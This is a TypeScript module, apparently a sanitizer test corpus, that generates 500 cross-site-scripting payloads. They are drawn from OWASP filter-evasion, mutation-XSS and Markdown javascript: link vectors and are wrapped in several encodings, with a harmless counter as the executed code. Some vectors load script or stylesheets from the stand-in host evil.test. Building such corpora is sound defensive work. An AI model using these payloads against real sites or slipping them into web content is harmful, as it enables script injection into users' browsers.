// Five hundred texts that want to run: vectors of the OWASP filter-evasion list, of mutation XSS and of Markdown
// advisories, each in several clothes. `MARK` is what they try to do; whoever sees it happen has found a hole.
export const MARK = 'window.__ran=(window.__ran||0)+1';

const J = MARK;
const VECTORS = [
  `<script>${J}</script>`, `<ScRiPt>${J}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<script>/*</script>*/${J}//`,
  `<img src=x onerror="${J}">`, `<img src=x onerror=${J}//`, `<image src=x onerror="${J}">`, `<img/src="x"/onerror="${J}">`,
  `<svg onload="${J}">`, `<svg><script>${J}</script></svg>`, `<svg><animate onbegin="${J}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${J}"><text>x</text></a></svg>`, `<svg><foreignObject><img src=x onerror="${J}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${J}&gt;">`,
  `<math href="javascript:${J}">x</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${J}>`,
  `<noscript><p title="</noscript><img src=x onerror=${J}>">`, `<template><img src=x onerror="${J}"></template>`,
  `<iframe src="javascript:${J}"></iframe>`, `<iframe srcdoc="<script>parent.${J}</script>"></iframe>`,
  `<object data="javascript:${J}"></object>`, `<embed src="javascript:${J}">`, `<base href="//evil.test/">`,
  `<body onload="${J}">`, `<details open ontoggle="${J}">`, `<video><source onerror="${J}"></video>`, `<audio src=x onerror="${J}">`,
  `<input autofocus onfocus="${J}">`, `<select autofocus onfocus="${J}">`, `<marquee onstart="${J}">x</marquee>`,
  `<a href="javascript:${J}">x</a>`, `<a href="jav&#x09;ascript:${J}">x</a>`, `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${J}">`, `<style>@import'//evil.test/x.css';</style>`,
  `<div style="background:url(javascript:${J})">`, `<button formaction="javascript:${J}">x</button>`,
  `[x](javascript:${J})`, `[x](JaVaScRiPt:${J})`, `[x](java\tscript:${J})`, `[x](data:text/html,<script>${J}</script>)`, `[x](vbscript:${J})`,
  `![x](javascript:${J})`, `![x](x "onerror=${J}")`, `<javascript:${J}>`, `[x]: javascript:${J}\n[x]`, `\`\`\`html\n<script>${J}</script>\n\`\`\``,
  `"onmouseover="${J}`, `'><script>${J}</script>`, `--><script>${J}</script>`, `]]><script>${J}</script>`, `{{constructor.constructor('${J}')()}}`,
  `\${${J}}`, `javascript:${J}`, `</textarea><script>${J}</script>`, `</title><script>${J}</script>`, `\u202e<script>${J}</script>`,
];
const CLOTHES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => `x${text}x`,
  (text) => text.replaceAll('<', '<\u0000'.replace('\u0000', '\u200b')),
  (text) => text.replaceAll('"', '`'),
  (text) => `"${text}"`,
  (text) => [...text].map((c) => (c === '<' ? '＜' : c === '>' ? '＞' : c)).join(''),
  (text) => `> ${text}\n\n**${text}**`,
];

/** All of them. */
export const payloads: string[] = CLOTHES.flatMap((dress) => VECTORS.map(dress)).slice(0, 500);
